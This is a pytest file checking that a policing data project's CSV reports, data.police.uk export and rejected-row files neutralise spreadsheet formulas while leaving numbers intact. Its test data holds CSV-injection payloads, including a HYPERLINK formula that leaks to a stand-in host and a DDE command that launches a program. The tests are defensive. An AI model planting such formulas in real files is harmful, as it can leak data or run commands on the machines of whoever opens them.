"""Every CSV the project writes neutralises spreadsheet formulas and leaves numbers alone.

A log whose operation, site, policing operation and power text are formulas (as a hostile or
careless source could make them) is written out through every CSV writer: the report in its
long form and each table, the data.police.uk export, and the rejected rows of both importers.
No cell of any of them starts a formula; the values come back when the file is read again.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

import pytest

from anpr_ops import OpLog
from anpr_ops._csv import FORMULA_STARTS
from anpr_ops.cli import main
from anpr_ops.events import Search
from anpr_ops.interop.police_uk import export_police_uk, import_police_uk
from anpr_ops.interop.police_uk.record import HEADER
from anpr_ops.render import TABLE_NAMES, render
from tests import factory as f

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak","click")',
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    """No cell starts a formula; a cell starting with '-' is a plain negative number."""
    for cell in cells(text):
        if cell.startswith(FORMULA_STARTS):
            assert cell.startswith("-") and float(cell) < 0, cell


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    with OpLog.open(db, create=True) as log:
        log.extend(
            [
                {
                    **f.operation(),
                    "name": FORMULAS[0],
                    "sites": [
                        {"site_id": "vauxhall", "name": FORMULAS[1], "latitude": 51.4861,
                         "longitude": -0.1236},
                    ],
                },
                f.hit(),
                f.stop(),
                f.search(
                    policing_operation=FORMULAS[2],
                    part_of_policing_operation=True,
                    latitude=51.4861,
                    longitude=-0.1236,
                ),
                f.outcome(),
            ]
        )  # fmt: skip
    return db


def test_the_report_csv_neutralises_every_name(hostile: Path) -> None:
    with OpLog.open(hostile, readonly=True) as log:
        report = log.report(f.OP)
    long = render(report, "csv")
    assert_no_formula(long)
    assert "'" + FORMULAS[0] in cells(long) and "'" + FORMULAS[1] in cells(long)
    for table in TABLE_NAMES:
        assert_no_formula(render(report, "csv", table=table))


def test_the_police_uk_export_neutralises_cells_and_keeps_numbers(hostile: Path) -> None:
    out = io.StringIO()
    with OpLog.open(hostile, readonly=True) as log:
        export_police_uk(log, f.OP, out)
    text = out.getvalue()
    assert_no_formula(text)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["Policing operation"] == "'" + FORMULAS[2]
    assert (row["Latitude"], row["Longitude"]) == ("51.486100", "-0.123600")
    # ... and the file reads back as what was written.
    with OpLog.memory() as copy:
        import_police_uk(copy, io.StringIO(text), "copy", force="metropolitan")
        (search,) = copy.events("copy", "search")
    assert isinstance(search, Search) and search.policing_operation == FORMULAS[2]


def test_the_command_line_csvs_are_safe(hostile: Path, tmp_path: Path) -> None:
    report, export = tmp_path / "r.csv", tmp_path / "e.csv"
    assert main(["report", str(hostile), "--op", f.OP, "--format", "csv", "-o", str(report)]) == 0
    assert main(["export", "police-uk", str(hostile), "--op", f.OP, "-o", str(export)]) == 0
    for path in (report, export):
        assert_no_formula(path.read_text(encoding="utf-8"))


def write_csv(path: Path, *rows: Sequence[str]) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)


def test_rejected_rows_are_written_safe(tmp_path: Path) -> None:
    """Both importers' rejected rows: the cells people open to fix are neutralised."""
    db = tmp_path / "r.db"
    with OpLog.open(db, create=True) as log:
        log.append(f.operation())
    hits = tmp_path / "hits.csv"
    write_csv(
        hits,
        ["time", "site", "plate", "hotlist", "reasons"],
        ["2020-04-18T10:00:00+01:00", "vauxhall", "AB12CDE", FORMULAS[2], "stolen_vehicle"],
        ["2020-04-18T10:01:00+01:00", "@vauxhall", "AB12CDF", "pnc", FORMULAS[3]],
    )
    code = main(["import", "hits", str(db), str(hits), "--op", f.OP, "--skip-invalid"])
    assert code == 0
    rejects = (tmp_path / "hits.rejected.csv").read_text(encoding="utf-8")
    assert_no_formula(rejects)
    assert len(list(csv.reader(io.StringIO(rejects)))) == 3
    searches = tmp_path / "2020-04-metropolitan-stop-and-search.csv"
    write_csv(
        searches,
        HEADER,
        ["Person search", "2020-04-18T10:00:00+01:00", "True", FORMULAS[0], "", "", "Male",
         "18-24", "", "White", "Misuse of Drugs Act 1971 (section 23)", "Controlled drugs",
         "=1+1", "", ""],
    )  # fmt: skip
    code = main(["import", "police-uk", str(db), str(searches), "--op", "p", "--skip-invalid"])
    assert code == 0
    rejects = (tmp_path / "2020-04-metropolitan-stop-and-search.rejected.csv").read_text(
        encoding="utf-8"
    )
    assert_no_formula(rejects)
    assert "'=1+1" in cells(rejects) and "'" + FORMULAS[0] in cells(rejects)
